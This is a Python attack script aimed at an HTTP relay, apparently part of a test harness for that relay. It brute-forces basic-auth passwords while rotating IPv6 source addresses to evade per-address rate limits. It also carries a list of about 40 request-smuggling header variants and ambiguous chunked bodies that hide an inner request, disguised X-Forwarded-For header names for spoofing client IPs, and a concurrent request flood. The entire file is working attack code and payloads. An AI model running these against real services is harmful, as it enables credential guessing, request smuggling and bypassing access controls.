#!/usr/bin/python3
"""HTTP requests with bad intent: requests.py CASE RELAY HOST arguments…, while the attack goes on. At last "rate N".

	guess PREFIX       passwords for basic_auth, from the /64s of the IPv6 /48 PREFIX
	right PREFIX       the right password, each time from another /64 than any guess, until one is not looked at; "rate" is which one that was
	smuggle            each form of a request that two readers could read differently, with a request for /smuggled/FORM inside it; over and over
	folded             headers whose names some servers take for X-Forwarded-For and its like, once each
	visit PATH         asks for PATH, 50 at a time
"""
import base64
import select
import socket
import sys

from attack import goes_on, ready, seconds

case, relay, name = sys.argv[1:4]
arguments = sys.argv[4:]
relay = relay.strip("[]")
family = socket.AF_INET6 if ":" in relay else socket.AF_INET


def side_by_side(make, source, at_once=50):
	"""One request a connection, without a pause; counts the status lines of the answers."""
	look, held, sent, answers = select.epoll(), {}, 0, {}
	ready()
	while goes_on():
		while len(held) < at_once:
			s = socket.socket(family)
			s.setblocking(False)
			s.bind((source(sent), 0))
			if s.connect_ex((relay, 80)) not in (0, 115):
				s.close()
				break
			held[s.fileno()] = s, make(sent)
			sent += 1
			look.register(s, select.EPOLLOUT)
		for fd, event in look.poll(0.01, 200):
			s, text = held[fd]
			try:
				if event & select.EPOLLOUT:
					s.send(text)
					look.modify(s, select.EPOLLIN)
					continue
				status = s.recv(4096)[9:12].decode("latin-1")
			except BlockingIOError:
				continue
			except OSError:
				status = "reset"
			answers[status] = answers.get(status, 0) + 1
			look.unregister(fd)
			held.pop(fd)[0].close()
	print("answers", answers)
	return sent / seconds()


def login(password):
	return ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\nAuthorization: Basic %s\r\n\r\n" % (name,
		base64.b64encode(b"u:" + password).decode())).encode()


def guess(prefix):
	return side_by_side(lambda i: login(b"guess%d" % i), lambda i: "%s:%x::1" % (prefix, i & 0x7fff))


def right(prefix):
	for i in range(20000):
		with socket.create_connection((relay, 80), 60, ("%s:%x::1" % (prefix, 0x8000 + i), 0)) as s:
			s.sendall(login(b"right"))
			if s.recv(4096)[9:12] == b"429":
				return i + 1
	return 0


def visit(path):
	text = ("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (path, name)).encode()
	return side_by_side(lambda i: text, lambda i: "11.64.%d.1" % (i % 200))


def exchange(data, patience=0.3):
	with socket.create_connection((relay, 80), 5, ("11.64.9.9", 0)) as s:
		s.settimeout(patience)
		got = b""
		try:
			s.sendall(data)
			while True:
				piece = s.recv(65536)
				if not piece:
					break
				got += piece
		except OSError:
			pass
		return got


INNER = b"GET /smuggled/NUMBER HTTP/1.1\r\nHost: HOST\r\n\r\n"
HEADS = [  # what goes between the request line and the empty line; %d is the length of the body
	"Content-Length: 0\r\nContent-Length: %d", "Content-Length: %d\r\nContent-Length: 0", "Content-Length: 0, %d", "Content-Length: +%d",
	"Content-Length: -%d", "Content-Length: %d\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: %d",
	"Transfer-Encoding: xchunked\r\nContent-Length: %d", "Transfer-Encoding : chunked\r\nContent-Length: %d", "Transfer-Encoding\t: chunked\r\nContent-Length: %d",
	"Transfer-Encoding: chunked, identity\r\nContent-Length: %d", "Transfer-Encoding: identity, chunked\r\nContent-Length: %d",
	"Transfer-Encoding: identity\r\nContent-Length: %d", "Transfer-Encoding:\x0bchunked\r\nContent-Length: %d", "Transfer-Encoding: \"chunked\"\r\nContent-Length: %d",
	"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: %d", "Transfer-Encoding: x\r\nTransfer-Encoding: chunked\r\nContent-Length: %d",
	" Transfer-Encoding: chunked\r\nContent-Length: %d", "X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: %d", "X: y\nTransfer-Encoding: chunked\r\nContent-Length: %d",
	"X: y\rTransfer-Encoding: chunked\r\nContent-Length: %d", "X: y\r\n\rTransfer-Encoding: chunked\r\nContent-Length: %d", "Transfer_Encoding: chunked\r\nContent-Length: %d",
	"Content_Length: %d", "Content-Length : %d", "Content-Length:\t%d\x0b", "Content-Length: 0x%x", "Content-Length: %d;", "Content-Length: %d %d", "Content-Length: 1e1 %d",
	"Content\xadLength: %d", "Content-Length\x00: %d", "Content-Length: %d\x00", "Transfer-Encoding: chunke\x00d\r\nContent-Length: %d",
	"Transfer-Encoding: chunked;q=1\r\nContent-Length: %d", "TE: trailers\r\nTrailer: Content-Length\r\nTransfer-Encoding: chunked", "Expect: 100-continue\r\nContent-Length: 0\r\nExpect: x %d",
	"Connection: Content-Length\r\nContent-Length: %d", "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\nContent-Length: %d", "Upgrade: h2c\r\nConnection: Upgrade\r\nContent-Length: 0, %d",
	"Host: a\r\nContent-Length: 00000000000000000000%d", "Content-Length: 184467440737095516%d",
]
BODIES = [  # chunked ones whose end can be read differently
	b"0\r\n\r\nINNER", b"0;\n\r\n\r\nINNER", b"0 \r\n\r\nINNER", b"0\n\nINNER", b"0x0\r\n\r\nINNER", b"+0\r\n\r\nINNER", b"1\r\nZ\n0\r\n\r\nINNER", b"1\r\nZZ\r\n0\r\n\r\nINNER", b"1;a=\"\r\n\"\r\nZ\r\n0\r\n\r\nINNER",
]


def forms():
	for number, head in enumerate(HEADS):
		inner = INNER.replace(b"HOST", name.encode()).replace(b"NUMBER", b"%d" % number)
		head = head.replace("%d %d", "%d" % len(inner) + " %d")
		body = inner if "%" in head else b"0\r\n\r\n" + inner
		text = head % len(body) if "%" in head else head
		yield ("POST /outer HTTP/1.1\r\nHost: %s\r\n" % name).encode() + text.encode("latin-1") + b"\r\n\r\n" + body
	for number, body in enumerate(BODIES, len(HEADS)):
		inner = INNER.replace(b"HOST", name.encode()).replace(b"NUMBER", b"%d" % number)
		yield ("POST /outer HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\n\r\n" % name).encode() + body.replace(b"INNER", inner)


def smuggle():
	"""Where the relay itself sees two requests it gives two answers, and nobody is deceived: those forms are named. What else the service is asked
	for was smuggled past the relay."""
	done, all_forms = 0, list(forms())
	ready()
	while goes_on() or done < len(all_forms):
		if exchange(all_forms[done % len(all_forms)]).count(b"HTTP/1.1 200") > 1:
			print("two answers to %d" % (done % len(all_forms)))
		done += 1
	print("forms %d" % len(all_forms))
	return done / seconds()


FOLDED = ["X-Forwarded.For", "X!Forwarded!For", "X_Forwarded_For", "X-Forwarded-For\t", "x_forwarded_for", "X-Forwarded_For", "X.Forwarded.Proto", "X_Forwarded_Proto", "X~Forwarded~Host",
	"X_Real_IP", "X.Real.IP", "X'Forwarded'For", "X*Forwarded*For", "X+Forwarded+For", "X|Forwarded|For", "X^Forwarded^For", "X`Forwarded`For", "X#Forwarded#For", "X$Forwarded$For",
	"X%Forwarded%For", "X&Forwarded&For"]


def folded():
	ready()
	for header in FOLDED:
		exchange(("GET /folded HTTP/1.1\r\nHost: %s\r\n%s: 6.6.6.6\r\nConnection: close\r\n\r\n" % (name, header)).encode(), 1)
	return len(FOLDED)


print("rate %d" % globals()[case](*arguments))
